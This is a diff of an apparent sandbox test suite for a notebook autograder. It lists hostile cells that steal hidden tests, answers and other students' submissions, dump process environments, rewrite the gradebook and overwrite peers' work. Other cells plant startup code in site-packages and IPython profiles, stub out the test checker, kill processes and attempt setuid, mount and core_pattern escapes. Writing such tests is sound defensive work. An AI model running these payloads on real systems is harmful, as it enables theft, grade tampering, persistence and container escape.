@@ -34,12 +34,17 @@ def write(path, text="# @token@\\n", mode="a"):
         print(type(problem).__name__)
 """
 
-ENTRIES = [replace(one, isolated=True) for one in (
-    # Read
-    cell("It executes the instructor's answers from the repository and from the course directory", LOOT + """
+ENTRIES = [
+    replace(one, isolated=True)
+    for one in (
+        # Read
+        cell(
+            "It executes the instructor's answers from the repository and from the course directory",
+            LOOT
+            + """
 import json, re
 def steal(*_):
-    for path in glob.glob("@workspace@/grading/source/*/*.py") + glob.glob("@course@/source/*/*.ipynb") + glob.glob("../../../source/*/*.ipynb"):
+    for path in glob.glob("@workspace@/grading/source/*/*.py") + glob.glob("@course@/source/*/*") + glob.glob("../../../source/*/*"):
         try:
             text = open(path).read()
             for found in re.findall(r"(?:^|\\n)(#\\| export\\n.*?)(?=\\n# %%)", text, re.DOTALL):
@@ -49,16 +54,31 @@ def steal(*_):
             print(type(problem).__name__)
 steal()
 get_ipython().events.register("pre_run_cell", steal)
-""", before="test-double", solved=NONE, page=True),
-    cell("It prints the hidden tests from wherever they may lie", LOOT + """
+""",
+            before="test-double",
+            solved=NONE,
+            page=True,
+        ),
+        cell(
+            "It prints the hidden tests from wherever they may lie",
+            LOOT
+            + """
 loot("@workspace@/grading/**/*.py", "@course@/source/*/*", "@course@/autograded/*/*/*.ipynb", "@scratch@/**/*.ipynb", "@scratch@/**/*.py",
      "/given/**", "/tmp/**/*.ipynb", "/tmp/**/*hidden*", "./**/*", "../**/*.ipynb", "../../**/*.ipynb")
-"""),
-    cell("It prints the submissions of its neighbours and the gradebook", LOOT + """
+""",
+        ),
+        cell(
+            "It prints the submissions of its neighbours and the gradebook",
+            LOOT
+            + """
 loot("@course@/submitted/*/*/*", "../../../submitted/*/*/*", "@scratch@/**/submitted/**/*.ipynb")
 loot("@course@/gradebook.db", "@course@/reports/*/*", "../../../gradebook.db", "@scratch@/**/gradebook.db", "@scratch@/**/request.json")
-"""),
-    cell("It prints the environment, its own and every process's, and what its file descriptors hold", LOOT + """
+""",
+        ),
+        cell(
+            "It prints the environment, its own and every process's, and what its file descriptors hold",
+            LOOT
+            + """
 print(dict(os.environ))
 loot("/proc/*/environ", "/proc/*/cmdline", "/proc/*/cwd/*.ipynb", "/proc/1/ro" "ot/@course@/*")
 for fd in range(3, 64):
@@ -68,9 +88,12 @@ for fd in range(3, 64):
         print(os.read(fd, 200_000).decode("latin-1"))
     except (OSError, BlockingIOError) as problem:
         pass
-"""),
-    # Write
-    cell("It gives everybody all points in the gradebook", """
+""",
+        ),
+        # Write
+        cell(
+            "It gives everybody all points in the gradebook",
+            """
 import glob, sqlite3
 for path in ["@course@/gradebook.db", "../../../gradebook.db", *glob.glob("@scratch@/**/gradebook.db", recursive=True)]:
     try:
@@ -80,8 +103,12 @@ for path in ["@course@/gradebook.db", "../../../gradebook.db", *glob.glob("@scra
         book.commit()
     except sqlite3.Error as problem:
         print(problem)
-"""),
-    cell("It overwrites the work of its neighbours, the release, the source and the tests of the course", WRITE + """
+""",
+        ),
+        cell(
+            "It overwrites the work of its neighbours, the release, the source and the tests of the course",
+            WRITE
+            + """
 for victim in "@victims@".split(","):
     for path in glob.glob(f"@course@/submitted/{victim}/*/*.ipynb") + glob.glob(f"../../../submitted/{victim}/*/*.ipynb"):
         write(path, "{}", "w")
@@ -90,8 +117,12 @@ for victim in "@victims@".split(","):
 for path in (glob.glob("@course@/release/*/*") + glob.glob("@course@/source/*/*") + glob.glob("@workspace@/**/*.py", recursive=True)
              + ["@course@/nbgrader_config.py"]):
     write(path)
-"""),
-    cell("It plants code that others would run: in site-packages, IPython's profile, kernels, sitecustomize, shell", WRITE + """
+""",
+        ),
+        cell(
+            "It plants code that others would run: in site-packages, IPython's profile, kernels, sitecustomize, shell",
+            WRITE
+            + """
 write("@packages@/@token@.pth", "import os\\n")
 write("@packages@/sitecustomize.py")
 write("@packages@/numpy/@token@.py")
@@ -99,19 +130,27 @@ import numpy, IPython, ipykernel
 for module in (numpy, IPython, ipykernel):
     write(os.path.join(os.path.dirname(module.__file__), "@token@.py"))
 for home in ("@home@", os.path.expanduser("~"), os.environ.get("HOME", "/")):
-    for name in (".ipython/profile_default/startup/@token@.py", ".jupyter/jupyter_@token@.py", ".local/share/jupyter/kernels/@token@/kernel.json",
+    for name in (".ipython/profile_default/startup/@token@.py", ".jupyter/jupyter_@token@.py",
+                 ".local/share/jupyter/kernels/@token@/kernel.json",
                  ".local/lib/python3.11/site-packages/@token@.pth", ".config/@token@/rc", ".cache/@token@"):
         write(os.path.join(home, name))
-"""),
-    cell("It changes the package that it was given, and leaves files in every directory that all use", WRITE + """
+""",
+        ),
+        cell(
+            "It changes the package that it was given, and leaves files in every directory that all use",
+            WRITE
+            + """
 import tinytorch, tinytorch.testing
 write(tinytorch.testing.__file__, "\\ndef expect(*a, **k): pass\\n# @token@\\n")
 write(os.path.join(os.path.dirname(tinytorch.__file__), "__pycache__", "@token@.pyc"))
 write(os.path.join(os.path.dirname(tinytorch.__file__), "core", "@token@.py"))
 for place in ("/tmp", "/dev/shm", "/var/tmp", "@scratch@", "/run", "/", "/etc"):
     write(f"{place}/@token@-left-behind")
-"""),
-    cell("It leaves links, a pipe and a socket in its directory for the engine to follow", """
+""",
+        ),
+        cell(
+            "It leaves links, a pipe and a socket in its directory for the engine to follow",
+            """
 import os, socket
 for target, name in (("@course@/gradebook.db", "fort_dev.ipynb"), ("/etc/passwd", "result.json"), ("@course@", "folder")):
     try:
@@ -124,9 +163,12 @@ try:
     os.chmod(".", 0o000)
 except OSError as problem:
     print(type(problem).__name__)
-"""),
-    # Talk
-    cell("It calls servers on this machine: HTTP, datagrams, names, raw packets, an abstract unix socket", """
+""",
+        ),
+        # Talk
+        cell(
+            "It calls servers on this machine: HTTP, datagrams, names, raw packets, an abstract unix socket",
+            """
 import urllib.request
 for address in ("http://127.0.0.1:@http@/@token@", "http://localhost:@http@/@token@"):
     try:
@@ -148,9 +190,12 @@ def unix():
 attempt(unix)
 attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
 attempt(lambda: socket.socket(17, socket.SOCK_RAW))
-"""),
-    # Stay
-    cell("It leaves a daemon behind that writes and calls later", """
+""",
+        ),
+        # Stay
+        cell(
+            "It leaves a daemon behind that writes and calls later",
+            """
 import os, time
 if os.fork() == 0:
     os.setsid()
@@ -178,8 +223,11 @@ if os.fork() == 0:
         os._exit(0)
     os._exit(0)
 os.wait()
-"""),
-    cell("It kills its parent and every process that it may signal", """
+""",
+        ),
+        cell(
+            "It kills its parent and every process that it may signal",
+            """
 import os, signal
 for pid in (os.getppid(), *range(2, 400)):
     if pid != os.getpid():
@@ -191,13 +239,19 @@ try:
     os.kill(-1, signal.SIGTERM)
 except OSError:
     pass
-""", before="q-why", solved=SOME),
-    cell("It tries to become somebody else and to mount, trace and change the system", """
+""",
+            before="q-why",
+            solved=SOME,
+        ),
+        cell(
+            "It tries to become somebody else and to mount, trace and change the system",
+            """
 import ctypes, os
 libc = ctypes.CDLL(None, use_errno=True)
 print("setuid", libc.setuid(0), "mount", libc.mount(b"none", b"/mnt", b"tmpfs", 0, None), "unshare", libc.unshare(0x10000000 | 0x20000))
 print("ptrace", libc.ptrace(16, os.getppid(), 0, 0), "chroot", libc.chroot(b"/"), "reboot", libc.sethostname(b"@token@", 5))
-for path in ("/proc/sys/kernel/core_pattern", "/sys/fs/cgroup/release_agent", "/dev/mem", "/dev/sda", "/proc/sysrq-trigger", "/proc/self/oom_score_adj"):
+for path in ("/proc/sys/kernel/core_pattern", "/sys/fs/cgroup/release_agent", "/dev/mem", "/dev/sda",
+              "/proc/sysrq-trigger", "/proc/self/oom_score_adj"):
     try:
         open(path, "r+b").close()
         print("opened", path)
@@ -208,5 +262,7 @@ try:
     print("opened priority")
 except OSError as problem:
     print(type(problem).__name__)
-"""),
-)]
+""",
+        ),
+    )
+]
